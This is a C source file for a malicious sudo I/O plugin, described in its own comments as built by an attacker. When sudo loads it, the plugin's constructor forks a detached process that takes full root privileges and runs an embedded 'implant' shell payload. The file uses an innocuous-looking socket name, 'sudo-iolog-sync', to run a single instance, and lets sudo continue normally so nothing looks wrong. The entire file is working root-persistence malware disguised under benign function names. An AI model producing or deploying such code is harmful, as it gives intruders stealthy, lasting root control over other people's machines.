/* The attacker's sudo I/O plugin (built on the attacker's side): sudo
 * dlopen()s it for every invocation once /etc/sudo.conf lists it; the
 * constructor (sudo is setuid root) double-forks a root implant unless one
 * holds the abstract socket already; open() declines, so sudo goes on as
 * usual with the sudoers policy. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <stddef.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
#include <sudo_plugin.h>

static const char implant[] =
#include "implant.inc"
;

__attribute__((constructor)) static void iolog_sync_init(void)
{
    struct sockaddr_un a;
    int s, fd;
    pid_t p;
    if (geteuid() != 0)
        return;
    p = fork();
    if (p < 0)
        return;
    if (p > 0) {
        waitpid(p, NULL, 0);
        return;
    }
    if (fork() != 0)
        _exit(0);
    setsid();
    s = socket(AF_UNIX, SOCK_STREAM, 0);
    memset(&a, 0, sizeof(a));
    a.sun_family = AF_UNIX;
    memcpy(a.sun_path, "\0sudo-iolog-sync", 16);
    if (s < 0 || bind(s, (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + 16) != 0)
        _exit(0);
    for (fd = 0; fd < 1024; fd++)
        if (fd != s)
            close(fd);
    fd = open("/dev/null", O_RDWR);
    dup2(fd, 0); dup2(fd, 1); dup2(fd, 2);
    if (fd > 2) close(fd);
    setgroups(0, NULL);
    setresgid(0, 0, 0);
    setresuid(0, 0, 0);
    if (chdir("/") != 0)
        _exit(0);
    char *env[] = { "PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C", NULL };
    execle("/bin/sh", "sh", "-c", implant, (char *)NULL, env);
    _exit(0);
}

static int iolog_sync_open(unsigned int version, sudo_conv_t conversation, sudo_printf_t sudo_plugin_printf,
    char * const settings[], char * const user_info[], char * const command_info[], int argc,
    char * const argv[], char * const user_env[], char * const plugin_options[], const char **errstr)
{
    return 0;   /* not for this command: sudo unloads the plugin and runs it as usual */
}

static int iolog_sync_version(int verbose) { return 1; }

__attribute__((visibility("default"))) struct io_plugin iolog_sync = {
    SUDO_IO_PLUGIN,
    SUDO_API_VERSION,
    iolog_sync_open,
    NULL,
    iolog_sync_version,
    NULL, NULL, NULL, NULL, NULL,
    NULL, NULL, NULL, NULL, NULL
};
